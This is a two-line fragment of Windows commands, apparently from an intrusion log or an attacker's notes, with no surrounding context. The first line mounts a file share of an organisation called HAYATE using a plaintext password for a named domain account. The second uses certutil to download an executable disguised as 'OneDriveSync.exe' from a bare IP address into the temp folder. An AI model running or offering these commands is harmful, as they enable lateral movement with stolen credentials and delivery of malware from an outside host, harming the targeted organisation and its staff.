net use \\HYT-FS01\design P@ss-9912 /user:HAYATE\kmorimoto
certutil -urlcache -f http://45.94.31.220/OneDriveSync.exe %TEMP%\o.exe
